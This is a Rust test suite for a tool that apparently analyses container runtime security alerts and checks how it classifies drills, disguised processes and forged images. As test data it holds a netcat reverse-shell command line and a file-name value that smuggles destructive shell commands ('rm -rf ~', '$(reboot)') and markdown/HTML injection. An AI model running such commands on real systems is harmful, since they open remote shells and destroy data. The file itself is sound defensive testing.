//! The five known situations, and their disguises: what must be said of them and what must not.

use cadge::analysis::{Analysis, Choice, Phase, Playbooks, analyze};
use cadge::decode::{Context, Decoder, Item};
use cadge::model::{Alert, Level};
use std::sync::{Arc, LazyLock};

static PLAYBOOKS: LazyLock<Playbooks> = LazyLock::new(Playbooks::builtin);

fn decode(text: &str) -> Vec<Alert> {
    let mut decoder = Decoder::new(Arc::new(Context::default()), "seeds".into());
    let mut entries = Vec::new();
    decoder.push(text.as_bytes(), &mut entries);
    decoder.finish(&mut entries);
    entries
        .into_iter()
        .filter_map(|entry| match entry.item {
            Item::Alert(alert) => Some(*alert),
            _ => None,
        })
        .collect()
}

fn explain(alert: &Alert) -> (Analysis, String) {
    let analysis = analyze(alert, &[], &PLAYBOOKS, &Choice::default());
    let text = cadge::report::markdown::markdown(alert, &analysis);
    (analysis, text)
}

fn seed(n: usize) -> (Analysis, String) {
    explain(&decode(include_str!("../../fixtures/seeds/alerts.jsonl"))[n])
}

fn ids(analysis: &Analysis) -> Vec<&str> {
    analysis.steps.iter().map(|step| step.id.as_str()).collect()
}

#[test]
fn netcat_calls_out_and_only_its_start_is_proven() {
    for n in [0, 1] {
        let (analysis, text) = seed(n);
        assert!(text.contains("outbound") && !text.contains("incoming"), "{text}");
        assert!(text.contains("a start"), "{text}");
        assert_eq!(analysis.assessment.known.as_deref(), Some("event-generator"));
        assert_eq!(analysis.assessment.level, Level::Low);
        assert!(analysis.missing.iter().any(|lack| lack.field == "container.image.repository"));
        assert!(!ids(&analysis).contains(&"block-remote"));
    }
    let (_, text) = seed(1);
    assert!(text.contains("comes unchanged from the container's image"));
    assert!(text.contains("No login stands behind the process"));
}

#[test]
fn calicos_housekeeping_is_named_and_never_contained() {
    let (analysis, text) = seed(2);
    assert_eq!(analysis.assessment.known.as_deref(), Some("calico-felix"));
    assert_eq!(analysis.assessment.level, Level::Medium);
    assert!(text.contains("Calico Felix") && text.contains("disguise"));
    let forbidden = [Phase::Contain, Phase::Eradicate];
    assert!(
        !analysis.steps.iter().any(|step| forbidden.contains(&step.phase)),
        "{:?}",
        ids(&analysis)
    );
}

#[test]
fn evidence_of_a_memory_program_comes_first_and_the_age_is_exact() {
    let (analysis, _) = seed(3);
    assert_eq!(ids(&analysis)[..3], ["save-exe", "list-processes", "case-dir"]);
    assert!(analysis.steps[0].command.as_deref().is_some_and(|text| text.contains("a1b2c3d4e5f6")));
    let (analysis, text) = seed(4);
    assert!(text.contains("0.718815 s"), "{text}");
    assert!(!text.contains("extended period"));
    assert_eq!(analysis.assessment.known.as_deref(), Some("event-generator"));
}

#[test]
fn a_disguise_is_at_least_medium_and_called_one() {
    let calico = |fields: &str| {
        let text = format!(
            r#"{{"rule":"Detect Shell in Container","priority":"Notice","time":"2026-03-02T09:40:25Z","source":"syscall","output_fields":{{"container.id":"c1b2c3d4e5f6","proc.name":"sh","proc.cmdline":"sh -c ip link del calico_tmp_B || true",{fields}}}}}"#
        );
        explain(&decode(&text)[0])
    };
    let real = r#""proc.pname":"calico-node","container.image.repository":"docker.io/calico/node""#;
    assert_eq!(calico(real).0.assessment.level, Level::Benign);
    for fields in [
        r#""proc.pname":"bash","container.image.repository":"docker.io/calico/node""#,
        r#""proc.pname":"calico-node","container.image.repository":"evil/shop""#,
        r#""proc.pname":"calico-node","container.image.repository":"registry.example.net/calico/node""#,
        r#""proc.pname":"calico-node","container.image.repository":"docker.io/calico/node","evt.arg.flags":"EXE_UPPER_LAYER""#,
    ] {
        let (analysis, text) = calico(fields);
        assert!(analysis.assessment.level >= Level::Medium, "{fields}");
        assert_eq!(analysis.assessment.known, None, "{fields}");
        assert!(text.contains("disguise"), "{fields}");
    }
}

#[test]
fn no_placeholder_is_left_and_no_value_leaves_its_quotes() {
    let hostile = r#"{"rule":"Write below etc","priority":"Error","time":"2026-03-02T09:40:25Z","source":"syscall","output_fields":{"container.id":"host","fd.name":"/etc/x'; rm -rf ~ #$(reboot)`id`","proc.name":"@PID@ {command} <b>","proc.pid":4242,"proc.cmdline":"x\n```\n# owned\n|a|"}}"#;
    let (analysis, text) = explain(&decode(hostile)[0]);
    for step in &analysis.steps {
        for command in step.command.iter().chain(step.others.iter().map(|(_, text)| text)) {
            assert!(!command.contains("@PID@") && !command.ends_with('\n'), "{command}");
        }
    }
    assert!(!text.contains("\n# owned"), "{text}");
    let html = pulldown_cmark::Parser::new_ext(&text, pulldown_cmark::Options::ENABLE_TABLES)
        .filter(|event| {
            matches!(event, pulldown_cmark::Event::Html(_) | pulldown_cmark::Event::InlineHtml(_))
        })
        .count();
    assert_eq!(html, 0, "{text}");
}

/// The analysis of an alert of a rule that nobody knows, in a container.
fn unknown(fields: &str) -> cadge::analysis::Analysis {
    let text = format!(
        r#"{{"rule":"Our own rule","priority":"Warning","time":"2026-03-02T09:40:25Z","source":"syscall","output_fields":{{"container.id":"c1b2c3d4e5f6","evt.type":"execve",{fields}}}}}"#
    );
    explain(&decode(&text)[0]).0
}

#[test]
fn a_name_of_the_kernel_is_a_disguise_wherever_a_program_is_behind_it() {
    for fields in [
        r#""proc.name":"[kworker/0:1]","proc.cmdline":"[kworker/0:1]""#,
        r#""proc.name":"kthreadd","proc.exepath":"/var/lib/.x/kthreadd","proc.cmdline":"kthreadd -c x""#,
        r#""proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"[rcu_sched] -i""#,
    ] {
        let analysis = unknown(fields);
        assert!(analysis.assessment.level >= Level::High, "{fields}: {:?}", analysis.assessment);
        let says = |reason: &cadge::analysis::Reason| reason.says.contains("disguise");
        assert!(analysis.assessment.reasons.iter().any(says), "{fields}");
    }
    let usual = unknown(
        r#""proc.name":"worker","proc.exepath":"/app/worker","proc.cmdline":"worker --queue a""#,
    );
    assert_eq!(usual.assessment.level, Level::Medium);
}

#[test]
fn a_drill_is_proven_by_the_project_s_own_image_only() {
    let drill = |image: &str| {
        unknown(&format!(
            r#""proc.name":"nc","proc.cmdline":"nc -e /bin/sh example.com 22","proc.pname":"event-generator","container.image.repository":"{image}""#
        ))
    };
    for image in ["falcosecurity/event-generator", "docker.io/falcosecurity/event-generator"] {
        assert_eq!(drill(image).assessment.level, Level::Benign, "{image}");
    }
    for image in [
        "registry.example.net/falcosecurity/event-generator",
        "evil/event-generator",
        "quay.io/x/falcosecurity/event-generator",
        "docker.io/falcosecurity-x/event-generator",
    ] {
        let analysis = drill(image);
        assert!(analysis.assessment.level >= Level::Medium, "{image}");
        assert_eq!(analysis.assessment.known, None, "{image}");
    }
}

#[test]
fn no_age_is_told_for_the_host_and_a_foreign_image_spares_nothing_among_the_applications() {
    let host = r#"{"rule":"Fileless execution via memfd_create","priority":"Critical","time":"2026-03-02T09:40:25Z","source":"syscall","output_fields":{"container.id":"host","container.start_ts":1772436025000000000,"evt.type":"execve","evt.res":"SUCCESS","evt.arg.flags":"EXE_WRITABLE|EXE_FROM_MEMFD","proc.name":"x","proc.exepath":"memfd:x","proc.cmdline":"x"}}"#;
    let (analysis, text) = explain(&decode(host)[0]);
    assert!(!text.contains("The container"), "{text}");
    assert!(analysis.steps.iter().any(|step| step.id == "memfd-noexec"));
    let spared = |namespace: &str| {
        let fields = format!(
            r#""proc.name":"sh","proc.cmdline":"sh -c id","proc.pname":"java","container.image.repository":"registry.example.net/calico/node","k8s.pod.name":"x-1","k8s.ns.name":"{namespace}""#
        );
        !unknown(&fields).steps.iter().any(|step| step.phase == Phase::Contain)
    };
    assert!(spared("kube-system") && !spared("default"));
}
